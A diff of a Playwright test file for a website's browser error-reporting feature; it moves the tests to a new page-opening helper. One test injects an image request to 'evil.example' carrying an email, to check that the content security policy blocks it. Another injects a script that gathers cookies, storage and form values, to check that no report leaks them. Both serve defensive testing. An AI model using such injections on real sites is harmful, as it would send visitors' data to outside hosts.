@@ -5,7 +5,7 @@ import { linesOf } from '../../site/server/reports/browser-report.ts';
 import type { RunningServer } from '../../site/server/start-server.ts';
 import spec from '../../spec/index.ts';
 import { startReceiver, type Receiver } from '../backend/support/receiver.ts';
-import { listen, type OpenPage, settled, test, wasStopped } from '../support/browser.ts';
+import { listen, openAnew, type Reopen, settled, test, wasStopped } from '../support/browser.ts';
 import { buildVariant, type Variant } from '../support/variant.ts';
 
 const perPageView = 6;
@@ -47,9 +47,15 @@ interface Changes extends BrowserContextOptions {
 }
 
 /** Opens a page of the variant, with a mistake put into it. */
-const open = async (openPage: OpenPage, path: string, { script, change, before, ...options }: Changes = {}): Promise<Page> => {
+const open = (reopen: Reopen, path: string, { script, change, before, ...options }: Changes = {}): Promise<Page> =>
   // Chromium takes a page that a test has changed for one of the internet, which may not ask this machine without leave.
-  const page = await openPage('about:blank', { baseURL: site.url, permissions: ['local-network-access'], ...options });
+  reopen(path, { baseURL: site.url, permissions: ['local-network-access'], ...options }, async (page) => {
+    await spoil(page, path, script, change);
+    await before?.(page);
+  });
+
+/** Puts a mistake into a page on its way. */
+const spoil = async (page: Page, path: string, script?: string, change?: Changes['change']): Promise<void> => {
   await page.route('**/assets/broken-1a2b.js', (route) => route.fulfill({ contentType: 'text/javascript', body: script ?? '' }));
   await page.route(
     ({ origin, pathname }) => origin === site.url && pathname === path.split(/[?#]/)[0],
@@ -59,16 +65,16 @@ const open = async (openPage: OpenPage, path: string, { script, change, before, 
       await route.fulfill({ response, body: change?.(html) ?? html });
     },
   );
-  await before?.(page);
-  await page.goto(path);
-  return page;
 };
+
+/** Waits until the code that reports is there, and has told of what came before it. */
+const reporting = (page: Page): Promise<unknown> => page.waitForFunction(() => Object.hasOwn(window.earlyReports ?? [], 'push'));
 
 const frame = expect.stringMatching(/^\/assets\/broken-1a2b\.js:1:\d+$/);
 
 describe('a browser reports', () => {
-  test('an error that came before the code that reports it', async ({ openPage }) => {
-    await open(openPage, '/inicio', { script: 'null.x' });
+  test('an error that came before the code that reports it', async ({ reopen }) => {
+    await open(reopen, '/inicio', { script: 'null.x' });
     await expect.poll(() => receiver.told.map(({ body }) => body)).toEqual([
       {
         from: 'browser',
@@ -81,9 +87,9 @@ describe('a browser reports', () => {
     ]);
   });
 
-  test('an error and a rejection that come later', async ({ openPage }) => {
+  test('an error and a rejection that come later', async ({ reopen }) => {
     const script = "addEventListener('click', () => { setTimeout(() => nothing()); Promise.reject(new RangeError('x')); })";
-    const page = await open(openPage, '/en/contacto', { script, locale: 'en-US' });
+    const page = await open(reopen, '/en/contacto', { script, locale: 'en-US' });
     await settled(page);
     await page.locator('h1').click();
     await expect.poll(() => told().length).toBe(2);
@@ -92,22 +98,23 @@ describe('a browser reports', () => {
     expect(receiver.told[0]?.body).toMatchObject({ page: 'contact', locale: 'en' });
   });
 
-  test('a part of the site that cannot be loaded', async ({ openPage }) => {
-    const page = await open(openPage, '/inicio');
-    await settled(page);
+  test('a part of the site that cannot be loaded', async ({ reopen }) => {
+    const page = await open(reopen, '/inicio');
+    // Otherwise its own file may be one of those that cannot be loaded, and nobody tells of anything.
+    await reporting(page);
     await page.route('**/assets/chunks/**', (route) => route.abort());
     await page.locator('form#contact-home [name=name]').focus();
     await arrives({ kind: 'load', file: expect.stringMatching(/^\/assets\/chunks\/chunk-.+\.js$/) });
   });
 
-  test('a file of the page itself that is not there', async ({ openPage }) => {
-    await open(openPage, '/inicio', { change: (html) => html.replace('</head>', '<script src="/assets/gone-1a2b.js"></script></head>') });
+  test('a file of the page itself that is not there', async ({ reopen }) => {
+    await open(reopen, '/inicio', { change: (html) => html.replace('</head>', '<script src="/assets/gone-1a2b.js"></script></head>') });
     await arrives({ kind: 'load', file: '/assets/gone-1a2b.js' });
   });
 
-  test('what the content security policy stops: an origin at most', async ({ openPage, stopped }) => {
+  test('what the content security policy stops: an origin at most', async ({ reopen, stopped }) => {
     const foreign = '<script>1</script><img src="https://evil.example/ana.png?email=ana">';
-    await open(openPage, '/inicio', { change: (html) => html.replace('</body>', `${foreign}</body>`) });
+    await open(reopen, '/inicio', { change: (html) => html.replace('</body>', `${foreign}</body>`) });
     await arrives(
       { kind: 'policy', directive: 'script-src-elem', blocked: 'inline' },
       { kind: 'policy', directive: 'img-src', blocked: 'https://evil.example' },
@@ -115,8 +122,8 @@ describe('a browser reports', () => {
     await wasStopped(stopped, 2);
   });
 
-  test('what Trusted Types stop', async ({ openPage, stopped }) => {
-    await open(openPage, '/inicio', { script: "document.createElement('p').innerHTML = '<b>ana</b>'" });
+  test('what Trusted Types stop', async ({ reopen, stopped }) => {
+    await open(reopen, '/inicio', { script: "document.createElement('p').innerHTML = '<b>ana</b>'" });
     await arrives(
       { kind: 'policy', directive: 'require-trusted-types-for', blocked: 'trusted-types-sink', frames: [frame] },
       { kind: 'error', name: 'TypeError', code: 'trusted-types', frames: [frame] },
@@ -124,24 +131,24 @@ describe('a browser reports', () => {
     await wasStopped(stopped, 1);
   });
 
-  test('a form whose markup is not what its code expects', async ({ openPage }) => {
-    const page = await open(openPage, '/inicio', { change: (html) => html.replace(/(<label[^>]*for="contact-home[^>]*>)[^<]+/, '$1<b>Ana</b>') });
+  test('a form whose markup is not what its code expects', async ({ reopen }) => {
+    const page = await open(reopen, '/inicio', { change: (html) => html.replace(/(<label[^>]*for="contact-home[^>]*>)[^<]+/, '$1<b>Ana</b>') });
     await settled(page);
     await page.locator('form#contact-home [name=name]').focus();
     await arrives({ kind: 'error', name: 'Error', code: 'react-418' });
   });
 
-  test('an address that leads nowhere, where the server does not', async ({ openPage }) => {
-    await open(openPage, '/gracias/ana%40correo.mx/5512345678?nombre=ana#ana');
+  test('an address that leads nowhere, where the server does not', async ({ reopen }) => {
+    await open(reopen, '/gracias/ana%40correo.mx/5512345678?nombre=ana#ana');
     await arrives({ kind: 'path', path: '/gracias/:email/:number' });
   });
 
-  test('the same thing once, and so many different ones', async ({ openPage }) => {
+  test('the same thing once, and so many different ones', async ({ reopen }) => {
     const script = `for (let i = 0; i < 20; i += 1) setTimeout(() => { throw new Error(); });
 const fail = (i) => { throw new Error(); };
 ${Array.from({ length: 20 }, (_, index) => `setTimeout(() => fail(${index}));`).join('\n')}
 setTimeout(() => { window.done = true; }, 50);`;
-    const page = await open(openPage, '/inicio', { script });
+    const page = await open(reopen, '/inicio', { script });
     await page.waitForFunction('window.done');
     await expect.poll(() => receiver.told.length).toBe(perPageView);
     await settled(page);
@@ -158,18 +165,21 @@ describe('a browser does not report', () => {
   };
 
   test('to another site what a visitor who wants to be left alone meets', async ({ openPage }) => {
-    const before = (page: Page): Promise<unknown> => page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
-    await nothing(await open(openPage, '/inicio', { ...broken, before }));
+    const page = await openPage('about:blank', { baseURL: site.url });
+    await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
+    await spoil(page, '/inicio', broken.script);
+    await page.goto('/inicio');
+    await nothing(page);
   });
 
-  test('what a bot meets', async ({ openPage }) => {
-    await nothing(await open(openPage, '/inicio', { ...broken, userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1) Chrome/140.0.0.0' }));
+  test('what a bot meets', async ({ reopen }) => {
+    await nothing(await open(reopen, '/inicio', { ...broken, userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1) Chrome/140.0.0.0' }));
   });
 
-  test('mistakes of somebody else’s script', async ({ openPage }) => {
+  test('mistakes of somebody else’s script', async ({ reopen }) => {
     const before = (page: Page): Promise<unknown> =>
       page.route('https://agenda.cimiento.example/**', (route) => route.fulfill({ contentType: 'text/javascript', body: 'Promise.reject(new Error("x")); null.x' }));
-    const page = await open(openPage, '/servicios/asesoria-ia', { before });
+    const page = await open(reopen, '/servicios/asesoria-ia', { before });
     const failed = page.waitForEvent('pageerror');
     await page.locator('[data-booking]').scrollIntoViewIfNeeded();
     await failed;
@@ -186,9 +196,9 @@ describe('a browser does not report', () => {
     expect(complaints).toEqual({ errors: [], console: [] });
   });
 
-  test('a bad address that the server has counted', async ({ openPage }) => {
+  test('a bad address that the server has counted', async ({ reopen }) => {
     const watching = await variant.serve({ reports: { url: receiver.url, perMinute: 60 } });
-    const page = await openPage('/no-hay-tal?nombre=ana', { baseURL: watching.url });
+    const page = await reopen('/no-hay-tal?nombre=ana', { baseURL: watching.url });
     await nothing(page);
     await watching.close();
     await arrives({ kind: 'path', path: '/no-hay-tal', count: 1 });
@@ -200,7 +210,7 @@ describe('no report has anything of a visitor’s', () => {
   const marks = ['marca.correo@persona.example', '5587654321', 'MarcaNombre'] as const;
   const [email, phone, name] = marks;
 
-  test('from address, form, storage, cookies, message or page before', async ({ openPage }) => {
+  test('from address, form, storage, cookies, message or page before', async ({ reopen }) => {
     // Everything that a script can reach is put into what is thrown.
     const script = `const all = () => [location.href, document.cookie, document.referrer, JSON.stringify(localStorage), JSON.stringify(sessionStorage),
   ...[...document.querySelectorAll('input, textarea')].map((field) => field.value)].join('\\n    at x (' + location.origin + '/assets/${name}.js:1:1)\\n');
@@ -212,11 +222,12 @@ addEventListener('blur', () => {
   Promise.reject({ all: all() });
   JSON.parse(all());
 }, true);`;
-    const page = await open(openPage, `/contacto?nombre=${name}&email=${email}#${phone}`, {
+    const page = await open(reopen, `/contacto?nombre=${name}&email=${email}#${phone}`, {
       script,
       before: async (page) => {
         await page.context().addCookies([{ name: 'visitor', value: name, domain: '127.0.0.1', path: '/' }]);
-        await page.addInitScript((marks) => marks.forEach((mark) => localStorage.setItem(mark, mark)), [...marks]);
+        await openAnew(page, '/robots.txt');
+        await page.evaluate((all) => all.forEach((mark) => localStorage.setItem(mark, mark)), [...marks]);
       },
     });
     await settled(page);
@@ -229,8 +240,8 @@ addEventListener('blur', () => {
     for (const mark of marks) expect(JSON.stringify(receiver.told)).not.toContain(mark);
   });
 
-  test('nor has the request that brings it', async ({ openPage }) => {
-    await open(openPage, `/inicio?nombre=${name}`, {
+  test('nor has the request that brings it', async ({ reopen }) => {
+    await open(reopen, `/inicio?nombre=${name}`, {
       script: 'null.x',
       before: (page) => page.context().addCookies([{ name: 'visitor', value: name, domain: '127.0.0.1', path: '/' }]),
     });
@@ -242,12 +253,10 @@ addEventListener('blur', () => {
 });
 
 describe('as long as the spec does not ask for it', () => {
-  test('an error is nobody else’s business, and no page has any code for it', async ({ openPage }) => {
+  test('an error is nobody else’s business, and no page has any code for it', async ({ reopen }) => {
     expect(spec.integrations).not.toHaveProperty('reports');
-    const page = await openPage('about:blank');
     const requests: string[] = [];
-    page.on('request', (request) => requests.push(request.url()));
-    await page.goto('/no-hay-tal');
+    const page = await reopen('/no-hay-tal', {}, async (tab) => tab.on('request', (request) => void requests.push(request.url())));
     await page.evaluate(() => setTimeout(() => Promise.reject(new Error('x'))));
     await settled(page);
     expect(requests.filter((url) => new URL(url).origin !== new URL(page.url()).origin)).toEqual([]);
